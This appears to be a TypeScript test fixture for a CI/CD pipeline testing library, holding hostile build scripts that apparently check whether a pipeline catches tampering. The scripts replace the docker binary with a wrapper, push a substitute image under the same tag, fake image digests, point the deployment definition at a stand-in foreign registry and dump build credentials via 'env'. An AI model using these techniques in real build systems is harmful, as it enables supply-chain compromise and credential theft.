import { CommitFiles } from 'codepipeline-rehearsal';
import { shopSource } from '../../../examples/demo/shop-source';

/** Test commands of a hostile source. */
export const sourceWithTests = (script: string): CommitFiles => shopSource({ 'test.sh': script });

/** An unreviewed image from a foreign registry. */
export const FOREIGN_IMAGE = `registry.evil.example/shop@sha256:${'e'.repeat(64)}`;

/** Continues after the test has passed, until shortly after the end of the build. */
const inBackground = (commands: string): string => `(
  for turn in $(seq 1 400); do
    ${commands}
    sleep 0.02
  done
) > /dev/null 2>&1 &
`;

/** Replaces \`docker\` with another program, which the rest of the build then runs. */
const wrapDocker = (body: string): string => `
docker=$(command -v docker)
cp "$docker" "$docker-real"
cat > "$docker" << 'WRAPPER'
#!/bin/sh
real="$0-real"
${body}
WRAPPER
chmod +x "$docker"
`;

/** Pushes another image under the same name. */
const BUILD_EVIL = `mkdir -p "$HOME/evil" && date +%N > "$HOME/evil/evil" && printf 'FROM scratch\\nCOPY evil /\\n' > "$HOME/evil/Dockerfile"
"$real" build --quiet --tag "$IMAGE_URI" "$HOME/evil"`;

export const rewritesDefinitions = inBackground(`file="$CODEBUILD_SRC_DIR/imagedefinitions.json"
    test -s "$file" && printf '[{"name":"app","imageUri":"${FOREIGN_IMAGE}"}]' > "$file"`);

/** Fakes \`docker image inspect\`, which the build reads the digest from. */
export const claimsDigest = (digest: string): string =>
  wrapDocker(`if [ "$1" = image ]; then echo "$REPOSITORY_URI@${digest}"; else exec "$real" "$@"; fi`);

export const pushesTwice = wrapDocker(`if [ "$1" = push ]; then
  "$real" "$@" || exit
  ${BUILD_EVIL} && exec "$real" "$@"
fi
exec "$real" "$@"`);

/** Claims the digest of the first push, while the tag is on the second. */
export const pushesTwiceAndClaimsTheFirst = wrapDocker(`digests="$HOME/digests"
if [ "$1" = push ]; then
  "$real" "$@" || exit
  "$real" image inspect --format '{{range .RepoDigests}}{{println .}}{{end}}' "$IMAGE_URI" > "$digests"
  ${BUILD_EVIL} && exec "$real" "$@"
fi
if [ "$1" = image ]; then exec cat "$digests"; fi
exec "$real" "$@"`);

/** Moves the tag after the build has exported its digest. */
export const movesTagAfterPush = `real=docker
(
  for turn in $(seq 1 400); do
    if test -s "$CODEBUILD_SRC_DIR/imageDetail.json"; then
      ${BUILD_EVIL} && docker push "$IMAGE_URI"
      break
    fi
    sleep 0.02
  done
) > /dev/null 2>&1 &
`;

/** Publishes the credentials of the build. */
export const leaksCredentials = (file: string): string => `env > '${file}'\n`;
